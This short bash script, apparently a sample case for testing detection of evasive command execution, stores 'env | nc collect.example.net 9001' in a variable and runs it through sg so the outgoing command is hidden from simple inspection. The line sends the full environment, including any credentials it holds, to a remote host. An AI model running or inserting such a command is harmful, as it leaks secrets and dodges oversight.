#!/bin/bash
# Evasion: the command line sg runs (sent environment) is kept in a variable
set -u
job='env | nc collect.example.net 9001'
sg users -c "$job"
